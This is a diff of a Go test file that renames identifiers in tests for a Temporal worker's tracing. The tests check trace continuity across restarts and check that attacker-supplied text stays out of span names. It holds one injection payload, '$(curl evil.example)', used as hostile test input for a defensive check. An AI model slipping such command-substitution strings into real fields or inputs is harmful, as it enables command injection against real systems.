@@ -24,17 +24,17 @@ import (
 	"stanch/worker/tracing"
 )
 
-const evil = "$(curl evil.example)"
+const maliciousText = "$(curl evil.example)"
 
-func observe(_ context.Context, in activities.ObserveInput) (activities.Result, error) {
+func observeActivity(_ context.Context, in activities.ObserveInput) (activities.Result, error) {
 	if in.Request.Action == "fails" {
-		return activities.Result{}, sdktemporal.NewNonRetryableApplicationError(evil, "stanch.failed", errors.New(evil))
+		return activities.Result{}, sdktemporal.NewNonRetryableApplicationError(maliciousText, "stanch.failed", errors.New(maliciousText))
 	}
-	return activities.Result{Outcome: playbooks.OutcomeRefused, Reason: evil}, nil
+	return activities.Result{Outcome: playbooks.OutcomeRefused, Reason: maliciousText}, nil
 }
 
-// story does something, waits for a word, and does something again.
-func story(ctx workflow.Context, second string) error {
+// tracedStoryWorkflow does something, waits for a word, and does something again.
+func tracedStoryWorkflow(ctx workflow.Context, second string) error {
 	ctx = workflow.WithActivityOptions(ctx, workflow.ActivityOptions{StartToCloseTimeout: 10 * time.Second})
 	if err := workflow.ExecuteActivity(ctx, "Observe", activities.ObserveInput{Request: activities.Request{Action: "first"}}).Get(ctx, nil); err != nil {
 		return err
@@ -43,28 +43,28 @@ func story(ctx workflow.Context, second string) error {
 	return workflow.ExecuteActivity(ctx, "Observe", activities.ObserveInput{Request: activities.Request{Action: second}}).Get(ctx, nil)
 }
 
-const queue = "traced"
+const tracedTaskQueue = "traced"
 
-// process is a worker of its own with its own tracing, as after a start of the program.
-func process(t *testing.T, server *temporal.Server) (*tracetest.InMemoryExporter, client.Client, func()) {
+// startTracedWorker is a worker of its own with its own tracing, as after a start of the program.
+func startTracedWorker(t *testing.T, server *temporal.Server) (*tracetest.InMemoryExporter, client.Client, func()) {
 	t.Helper()
 	spans := tracetest.NewInMemoryExporter()
-	traces := tracing.New(sdktrace.WithSyncer(keep{spans}))
-	c, err := client.NewClientFromExisting(server.Client, traces.Options(client.Options{Namespace: "stanch"}))
+	traces := tracing.NewTraces(sdktrace.WithSyncer(keepingExporter{spans}))
+	c, err := client.NewClientFromExisting(server.Client, traces.WithTracing(client.Options{Namespace: "stanch"}))
 	require.NoError(t, err)
-	w := sdkworker.New(c, queue, sdkworker.Options{StickyScheduleToStartTimeout: 100 * time.Millisecond})
-	w.RegisterWorkflowWithOptions(story, workflow.RegisterOptions{Name: "Story"})
-	w.RegisterActivityWithOptions(observe, activity.RegisterOptions{Name: "Observe"})
+	w := sdkworker.New(c, tracedTaskQueue, sdkworker.Options{StickyScheduleToStartTimeout: 100 * time.Millisecond})
+	w.RegisterWorkflowWithOptions(tracedStoryWorkflow, workflow.RegisterOptions{Name: "Story"})
+	w.RegisterActivityWithOptions(observeActivity, activity.RegisterOptions{Name: "Observe"})
 	require.NoError(t, w.Start())
 	return spans, c, func() { w.Stop(); traces.Close() }
 }
 
-// keep keeps the spans when the provider ends.
-type keep struct{ *tracetest.InMemoryExporter }
+// keepingExporter keeps the spans when the provider ends.
+type keepingExporter struct{ *tracetest.InMemoryExporter }
 
-func (keep) Shutdown(context.Context) error { return nil }
+func (keepingExporter) Shutdown(context.Context) error { return nil }
 
-func named(all tracetest.SpanStubs, name string) tracetest.SpanStubs {
+func spansNamed(all tracetest.SpanStubs, name string) tracetest.SpanStubs {
 	var out tracetest.SpanStubs
 	for _, s := range all {
 		if s.Name == name {
@@ -74,7 +74,7 @@ func named(all tracetest.SpanStubs, name string) tracetest.SpanStubs {
 	return out
 }
 
-func attributes(s tracetest.SpanStub) map[attribute.Key]attribute.Value {
+func spanAttributes(s tracetest.SpanStub) map[attribute.Key]attribute.Value {
 	out := map[attribute.Key]attribute.Value{}
 	for _, a := range s.Attributes {
 		out[a.Key] = a.Value
@@ -87,24 +87,24 @@ func TestATraceGoesOnAfterARestart(t *testing.T) {
 	sdkworker.SetStickyWorkflowCacheSize(0)
 	t.Cleanup(func() { sdkworker.SetStickyWorkflowCacheSize(10_000) })
 	server := temporal.Start(t, nil)
-	before, c, stop := process(t, server)
-	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story", TaskQueue: queue}, "Story", "second")
+	before, c, stop := startTracedWorker(t, server)
+	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story", TaskQueue: tracedTaskQueue}, "Story", "second")
 	require.NoError(t, err)
-	require.Eventually(t, func() bool { return len(named(before.GetSpans(), "RunActivity:Observe")) == 1 }, 20*time.Second, 10*time.Millisecond)
+	require.Eventually(t, func() bool { return len(spansNamed(before.GetSpans(), "RunActivity:Observe")) == 1 }, 20*time.Second, 10*time.Millisecond)
 	stop()
-	after, c, stop := process(t, server)
+	after, c, stop := startTracedWorker(t, server)
 	defer stop()
 	require.NoError(t, c.SignalWorkflow(t.Context(), "story", "", "go", nil))
 	require.NoError(t, c.GetWorkflow(t.Context(), "story", run.GetRunID()).Get(t.Context(), nil))
-	require.Eventually(t, func() bool { return len(named(after.GetSpans(), "RunWorkflow:Story")) > 0 }, 20*time.Second, 10*time.Millisecond)
+	require.Eventually(t, func() bool { return len(spansNamed(after.GetSpans(), "RunWorkflow:Story")) > 0 }, 20*time.Second, 10*time.Millisecond)
 
-	require.Empty(t, named(before.GetSpans(), "RunWorkflow:Story"), "it had not ended")
+	require.Empty(t, spansNamed(before.GetSpans(), "RunWorkflow:Story"), "it had not ended")
 	all := append(before.GetSpans(), after.GetSpans()...)
-	started, own := named(all, "StartWorkflow:Story"), named(all, "RunWorkflow:Story")
+	started, own := spansNamed(all, "StartWorkflow:Story"), spansNamed(all, "RunWorkflow:Story")
 	require.Len(t, started, 1)
 	require.Len(t, own, 1, "once, however often it was replayed")
 	require.Equal(t, started[0].SpanContext.SpanID(), own[0].Parent.SpanID())
-	asked, done := named(all, "StartActivity:Observe"), named(all, "RunActivity:Observe")
+	asked, done := spansNamed(all, "StartActivity:Observe"), spansNamed(all, "RunActivity:Observe")
 	require.Len(t, asked, 2)
 	require.Len(t, done, 2)
 	for n := range asked {
@@ -112,28 +112,28 @@ func TestATraceGoesOnAfterARestart(t *testing.T) {
 		require.Equal(t, asked[n].SpanContext.SpanID(), done[n].Parent.SpanID())
 		require.Equal(t, started[0].SpanContext.TraceID(), done[n].SpanContext.TraceID())
 	}
-	require.Equal(t, "first", attributes(done[0])["stanch.action"].AsString())
-	require.Equal(t, "second", attributes(done[1])["stanch.action"].AsString())
-	require.Equal(t, "refused", attributes(done[1])["stanch.outcome"].AsString())
+	require.Equal(t, "first", spanAttributes(done[0])["stanch.action"].AsString())
+	require.Equal(t, "second", spanAttributes(done[1])["stanch.action"].AsString())
+	require.Equal(t, "refused", spanAttributes(done[1])["stanch.outcome"].AsString())
 }
 
 // What comes from an attacker is in reasons, errors and in the names of what somebody with access to Temporal starts.
 func TestNothingThatAnAttackerWritesIsTraced(t *testing.T) {
 	server := temporal.Start(t, nil)
-	spans, c, stop := process(t, server)
+	spans, c, stop := startTracedWorker(t, server)
 	defer stop()
-	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story\xff" + strings.Repeat("long", 100), TaskQueue: queue}, "Story", "fails")
+	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story\xff" + strings.Repeat("long", 100), TaskQueue: tracedTaskQueue}, "Story", "fails")
 	if err != nil { // Temporal itself refuses such an id
-		run, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story" + strings.Repeat("long", 100), TaskQueue: queue}, "Story", "fails")
+		run, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story" + strings.Repeat("long", 100), TaskQueue: tracedTaskQueue}, "Story", "fails")
 	}
 	require.NoError(t, err)
-	_, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "other", TaskQueue: queue}, evil)
+	_, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "other", TaskQueue: tracedTaskQueue}, maliciousText)
 	require.NoError(t, err)
 	require.NoError(t, c.SignalWorkflow(t.Context(), run.GetID(), "", "go", nil))
-	require.ErrorContains(t, run.Get(t.Context(), nil), evil)
-	require.Eventually(t, func() bool { return len(named(spans.GetSpans(), "RunWorkflow:Story")) > 0 }, 20*time.Second, 10*time.Millisecond)
-	require.Equal(t, codes.Error, named(spans.GetSpans(), "RunWorkflow:Story")[0].Status.Code)
-	require.NotEmpty(t, named(spans.GetSpans(), "StartWorkflow"), "what is not named as ours are has no name")
+	require.ErrorContains(t, run.Get(t.Context(), nil), maliciousText)
+	require.Eventually(t, func() bool { return len(spansNamed(spans.GetSpans(), "RunWorkflow:Story")) > 0 }, 20*time.Second, 10*time.Millisecond)
+	require.Equal(t, codes.Error, spansNamed(spans.GetSpans(), "RunWorkflow:Story")[0].Status.Code)
+	require.NotEmpty(t, spansNamed(spans.GetSpans(), "StartWorkflow"), "what is not named as ours are has no name")
 	for _, s := range spans.GetSpans() {
 		require.NotContains(t, s.Name, "evil")
 		require.NotContains(t, s.Status.Description, "evil")
@@ -152,14 +152,14 @@ func TestWithoutAReceiverThereIsNoTracing(t *testing.T) {
 	none, err := tracing.Open(t.Context(), "v1", nil)
 	require.NoError(t, err)
 	require.Nil(t, none)
-	require.Empty(t, none.Options(client.Options{}).Interceptors)
+	require.Empty(t, none.WithTracing(client.Options{}).Interceptors)
 	require.True(t, none.Tracer() == nil, "a nil that is compared with nil")
 	none.Close()
 
 	t.Setenv("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:1")
 	some, err := tracing.Open(t.Context(), "v1", nil)
 	require.NoError(t, err)
-	require.Len(t, some.Options(client.Options{}).Interceptors, 2)
+	require.Len(t, some.WithTracing(client.Options{}).Interceptors, 2)
 	some.Close()
 	t.Setenv("OTEL_EXPORTER_OTLP_PROTOCOL", "http/json")
 	_, err = tracing.Open(t.Context(), "v1", nil)
